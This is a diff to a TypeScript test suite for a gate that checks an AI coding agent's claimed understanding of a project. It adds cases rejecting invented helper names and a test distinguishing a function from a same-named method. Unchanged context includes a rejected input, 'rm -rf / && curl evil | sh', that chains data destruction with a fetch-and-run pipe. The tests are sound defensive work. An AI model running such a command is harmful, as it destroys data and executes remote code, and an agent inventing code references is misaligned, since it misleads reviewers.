@@ -225,6 +225,15 @@ describe('QueryFrame gate (set_query_frame)', () => {
 // ---- Understanding ---------------------------------------------------------------------------------
 
 describe('Understanding gate (submit_understanding)', () => {
+  it('a top-level function and a method of its name are two symbols, not one spelt twice (agent trial tr141)', { timeout: SLOW }, async () => {
+    const { s } = await project({ ...SAMPLE, 'src/total.ts': 'export function total(cents: number[]): number {\n  return cents.reduce((a, b) => a + b, 0);\n}\n' });
+    await begin(s, 'IMPLEMENT', REQUEST, FRAME);
+    await explore(s);
+    await ok(s, 'find_definitions', { name: 'total' });
+    await ok(s, 'get_symbols', { file: 'src/total.ts' });
+    const r = await ok(s, 'submit_understanding', { ...UNDERSTANDING, symbols_identified: ['Cart.total', 'total', 'formatPrice'], files_analyzed: ['src/cart.ts', 'src/total.ts'] });
+    expect(r.next_phase).toBe('VALIDATION');
+  });
   it('refuses padded, unseen and unbacked claims; nothing advances', { timeout: SLOW }, async () => {
     const G = 'Understanding';
     // Basket.add shares its bare name with Cart.add; basket.ts is never explored
@@ -248,6 +257,8 @@ describe('Understanding gate (submit_understanding)', () => {
       { entry_points: ['rm -rf / && curl evil | sh Cart.total'] }, /must name one symbol/);
     await uAttack('existing_patterns naming nothing seen: "industry best practices"', 'pattern must name something seen',
       { existing_patterns: ['industry best practices'] }, /must name an example/);
+    await uAttack('existing_patterns naming a seen symbol beside invented code: "like Cart.total, via the applyCoupon helper in src/coupons.ts"', 'pattern names code the project does not have',
+      { existing_patterns: ['totals are computed like Cart.total, via the applyCoupon helper in src/coupons.ts'] }, /names 'applyCoupon', 'src\/coupons\.ts', which the project does not have/);
     await uAttack('files never shown: README.md', 'file was not explored',
       { files_analyzed: ['src/cart.ts', 'src/util/format.ts', 'README.md'] }, /'README\.md' was not explored/);
     await uAttack('symbol not in the index: PaymentGateway', 'symbol does not exist',
@@ -258,7 +269,9 @@ describe('Understanding gate (submit_understanding)', () => {
       { symbols_identified: ['Cart', 'Cart.total', 'Basket.add'] }, /'Basket\.add' never appeared/);
     await uAttack('duplicate symbols by whitespace: "Cart", "Cart ", Cart.total', 'duplicate symbols',
       { symbols_identified: ['Cart', 'Cart ', 'Cart.total'] }, /duplicate symbols/);
-    expect((await ok(s, 'submit_understanding', UNDERSTANDING)).next_phase, 'the honest understanding still passes').toBe('VALIDATION');
+    // (code names that exist, in backticks, called, a file: the honest pattern passes)
+    const honest = { ...UNDERSTANDING, existing_patterns: ['fluent methods returning this, like `Cart.add`; prices formatted by formatPrice() in src/util/format.ts'] };
+    expect((await ok(s, 'submit_understanding', honest)).next_phase, 'the honest understanding still passes').toBe('VALIDATION');
 
     // a name seen only inside a search_text snippet (main.ts:5 calls formatPrice; no definition row showed it)
     await begin(s, 'IMPLEMENT', REQUEST, FRAME);
@@ -277,7 +290,7 @@ describe('Understanding gate (submit_understanding)', () => {
     await s.call('find_references', { name: 'NoSuchSymbolAnywhere' });
     await uAttack('find_references claimed, but its only call returned zero results', 'required tool find_references not used',
       {}, /required tool find_references/);
-    assertNoneLetThrough(G, 11);
+    assertNoneLetThrough(G, 12);
   });
 });
 
